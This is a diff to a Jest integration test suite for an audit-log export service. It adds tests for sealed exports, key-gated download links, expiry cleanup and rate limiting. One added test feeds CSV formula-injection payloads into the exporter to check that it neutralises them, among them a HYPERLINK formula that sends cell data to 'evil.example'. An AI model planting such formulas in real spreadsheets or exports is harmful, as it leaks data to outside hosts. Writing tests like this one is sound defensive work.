@@ -2,13 +2,15 @@
 // verify, export and configure the log; denials recorded as FAILURE; exports verified offline.
 import { execFile } from 'node:child_process';
 import { randomUUID } from 'node:crypto';
-import { readFileSync, writeFileSync, mkdtempSync } from 'node:fs';
+import { existsSync, readFileSync, writeFileSync, mkdtempSync } from 'node:fs';
 import type { Server } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import express from 'express';
 import pg from 'pg';
+import { createDownloadHandler } from '../../gateway/downloads.ts';
 import { recordAudit } from '../../platform/audit.ts';
 import { loadConfig } from '../../platform/config.ts';
 import { openDatabase, runAsCaller, type MikroORM } from '../../platform/database/orm.ts';
@@ -22,6 +24,7 @@ import { freePort } from '../../stack/ports.ts';
 import { testAuditSigningKey, testStack } from '../../test/support/stack.ts';
 import { callerFor, subgraphClient } from '../../test/support/subgraph-client.ts';
 import { createAuditCheckpointActivities } from '../../workflows/audit-checkpoint/activities.ts';
+import { parseExport } from './export-format.ts';
 import { auditResolvers } from './resolvers.ts';
 
 const run = promisify(execFile);
@@ -32,6 +35,8 @@ const repoRoot = new URL('../..', import.meta.url).pathname;
 const orgA = randomUUID();
 const orgB = randomUUID();
 let server: Server;
+let downloadsServer: Server;
+let downloadsUrl: string;
 let orm: MikroORM;
 let workerOrm: MikroORM;
 let superuser: pg.Client;
@@ -59,13 +64,20 @@ beforeAll(async () => {
   const port = await freePort();
   server = await listen(app, '127.0.0.1', port, 'audit');
   call = subgraphClient(`http://127.0.0.1:${port}/graphql`, 'audit', config.contextSigningSecret);
+  // The gateway's download route, on its own: where an export's link leads.
+  const downloads = express();
+  downloads.get('/downloads/*key', createDownloadHandler(config.downloads, logger));
+  const downloadsPort = await freePort();
+  downloadsServer = await listen(downloads, '127.0.0.1', downloadsPort, 'downloads');
+  downloadsUrl = `http://127.0.0.1:${downloadsPort}`;
   await seed(orgA, ['CREATE', 'VIEW', 'UPDATE', 'VIEW', 'VIEW']);
   await seed(orgB, ['CREATE', 'VIEW']);
-  await createAuditCheckpointActivities({ orm: workerOrm, auditSigningKey: await testAuditSigningKey() }).signAuditCheckpoints();
+  await createAuditCheckpointActivities({ orm: workerOrm, auditSigningKey: await testAuditSigningKey() }).signAuditCheckpoints({ organizationIds: [orgA, orgB] });
 });
 
 afterAll(async () => {
   await closeServer(server);
+  await closeServer(downloadsServer);
   await orm.close();
   await workerOrm.close();
   await superuser.end();
@@ -162,16 +174,22 @@ describe('exportAuditLog', () => {
   const EXPORT = 'mutation ($format: AuditExportFormat!) { exportAuditLog(format: $format) { url expiresAt format eventCount } }';
   const workDir = mkdtempSync(join(tmpdir(), 'credence-export-'));
 
-  async function exportFile(format: 'JSON_LINES' | 'CSV'): Promise<{ file: string; eventCount: number }> {
-    const result = await call<{ exportAuditLog: { url: string; eventCount: number; expiresAt: string } }>(callerFor('AUDITOR', orgA), EXPORT, { format });
+  async function exportFile(format: 'JSON_LINES' | 'CSV', organizationId = orgA): Promise<{ file: string; eventCount: number; url: URL; key: string }> {
+    const result = await call<{ exportAuditLog: { url: string; eventCount: number; expiresAt: string } }>(callerFor('AUDITOR', organizationId), EXPORT, { format });
     expect(result.errors).toBeUndefined();
     const url = new URL(result.data!.exportAuditLog.url);
     expect(url.origin).toBe(config.downloads.publicUrl);
     const key = url.pathname.replace(/^\/downloads\//, '');
     expect(checkDownload(config.downloads.urlSigningSecret, key, url.searchParams.get('expires'), url.searchParams.get('signature'))).toEqual({ ok: true });
+    // At rest the file is sealed: nothing of the log can be read from it.
+    const atRest = readFileSync(join(config.downloads.storageDir, key));
+    expect(atRest.includes(Buffer.from(organizationId))).toBe(false);
+    expect(atRest.includes(Buffer.from('credence-audit-export'))).toBe(false);
+    const download = await fetch(`${downloadsUrl}${url.pathname}${url.search}`);
+    expect(download.status).toBe(200);
     const file = join(workDir, `export.${format === 'CSV' ? 'csv' : 'jsonl'}`);
-    writeFileSync(file, readFileSync(join(config.downloads.storageDir, key)));
-    return { file, eventCount: result.data!.exportAuditLog.eventCount };
+    writeFileSync(file, Buffer.from(await download.arrayBuffer()));
+    return { file, eventCount: result.data!.exportAuditLog.eventCount, url, key };
   }
 
   const verifyOffline = (file: string, ...extra: string[]) =>
@@ -201,12 +219,69 @@ describe('exportAuditLog', () => {
     expect(result.stdout).toContain('INVALID at sequence 3');
   });
 
+  it('writes no CSV cell a spreadsheet would run as a formula, and the export still verifies exactly', async () => {
+    const org = randomUUID();
+    const staff = callerFor('CREDENTIALING_STAFF', org);
+    const payloads = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\r=1', "'=already quoted", 'plain-id'];
+    for (const resourceId of payloads) {
+      await runAsCaller(orm, staff, (em) => recordAudit(em, staff, { action: 'VIEW', resourceType: 'Credential', resourceId, outcome: 'SUCCESS' }));
+    }
+    const { file } = await exportFile('CSV', org);
+    const text = readFileSync(file, 'utf8');
+    const cells = text.split('\n').flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? []).map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toContain("'=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")");
+    const parsed = parseExport(text);
+    expect(parsed.events.map((event) => event.resourceId)).toEqual(payloads);
+    const result = await verifyOffline(file);
+    expect(result.stdout).toMatch(/valid: 8 events chained/);
+    expect(result.code).toBe(0);
+  });
+
   it('refuses checkpoints signed by a key other than the pinned one', async () => {
     const { file } = await exportFile('CSV');
     const key = await testAuditSigningKey();
     const result = await verifyOffline(file, '--key', `${key.keyId}=${Buffer.alloc(32, 3).toString('base64')}`);
     expect(result.code).toBe(1);
     expect(result.stdout).toMatch(/INVALID at sequence \d+: checkpoint at sequence \d+ has an invalid signature/);
+  });
+
+  it('is given out in the clear only with the key its link carries', async () => {
+    const { url, file } = await exportFile('JSON_LINES');
+    const without = new URL(url);
+    without.searchParams.delete('content_key');
+    const wrong = new URL(url);
+    wrong.searchParams.set('content_key', Buffer.alloc(32, 9).toString('base64url'));
+    for (const link of [without, wrong]) {
+      const response = await fetch(`${downloadsUrl}${link.pathname}${link.search}`);
+      expect(response.status).toBe(403);
+      expect(await response.json()).toEqual({ errors: [{ message: 'Invalid download link', extensions: { code: 'FORBIDDEN' } }] });
+    }
+    expect(readFileSync(file, 'utf8')).toMatch(/^\{"record":"export"/);
+  });
+
+  it('are deleted once their link has expired, at the next export of any organization', async () => {
+    const { key } = await exportFile('CSV');
+    const abandoned = randomUUID();
+    await superuser.query(`update audit.exports set expires_at = now() - interval '1 second' where storage_key = $1`, [key]);
+    await superuser.query(`insert into audit.exports (id, organization_id, status, started_at) values ($1, $2, 'WRITING', now() - interval '2 hours')`, [abandoned, orgB]);
+    expect(existsSync(join(config.downloads.storageDir, key))).toBe(true);
+    await exportFile('JSON_LINES', orgB);
+    expect(existsSync(join(config.downloads.storageDir, key))).toBe(false);
+    const { rows } = await superuser.query(`select id from audit.exports where storage_key = $1 or id = $2`, [key, abandoned]);
+    expect(rows).toEqual([]);
+  });
+
+  it('are refused with RATE_LIMITED while the organization has too many being written', async () => {
+    const org = randomUUID();
+    await seed(org, ['VIEW']);
+    for (let i = 0; i < 2; i += 1) await superuser.query(`insert into audit.exports (id, organization_id) values ($1, $2)`, [randomUUID(), org]);
+    const refused = await call(callerFor('AUDITOR', org), EXPORT, { format: 'CSV' });
+    expect(refused.errors?.[0]?.extensions).toMatchObject({ code: 'RATE_LIMITED', details: { limit: 2 } });
+    const { rows } = await superuser.query(`select count(*)::int as n from audit.exports where organization_id = $1`, [org]);
+    expect(rows[0].n).toBe(2);
+    await superuser.query(`update audit.exports set started_at = now() - interval '2 hours' where organization_id = $1`, [org]); // abandoned long ago
+    expect((await call(callerFor('AUDITOR', org), EXPORT, { format: 'CSV' })).errors).toBeUndefined();
   });
 
   it('is refused to a credentialing staff member', async () => {
